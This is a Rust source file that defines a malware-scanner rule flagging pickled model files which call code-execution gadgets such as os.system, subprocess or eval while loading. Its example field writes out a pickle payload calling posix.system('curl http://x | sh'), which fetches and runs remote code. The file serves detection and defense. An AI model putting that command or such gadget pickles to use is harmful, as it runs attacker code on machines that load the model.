//! AIG101: a pickle calls a known code-execution or side-effect gadget.
use aigis_findings::{Domain, Rule, RuleDocs, Severity, Verdict};

pub static RULE: Rule = Rule {
    id: "AIG101",
    name: "pickle-dangerous-call",
    domain: Domain::Models,
    severity: Severity::Critical,
    verdict: Verdict::Malicious,
    checklist: &["000#1", "000#2", "002#5"],
    summary: "Pickle calls a known code-execution or side-effect function",
    docs: RuleDocs {
        what: "Fires when a pickle invokes (REDUCE, INST, OBJ, NEWOBJ) a global on the \
               denylist of known gadgets: process execution (os.system, subprocess), \
               eval/exec, dynamic import and attribute access, nested deserializers, file, \
               network and monkey-patching helpers. The evidence is the decoded call with its \
               arguments and the byte offset of the opcode.",
        why: "The unpickler performs this call while loading the model: `torch.load`, \
              `pickle.load` or `joblib.load` of this file runs the payload with the \
              privileges of the process that loads it.",
        example: "REDUCE at 0x2a calls posix.system('curl http://x | sh')",
        fix: "Do not load the file. Obtain the model from a trusted source, verify its \
              signature, and prefer safetensors.",
        references: &[
            "https://docs.python.org/3/library/pickle.html",
            "https://github.com/trailofbits/fickling",
        ],
    },
};
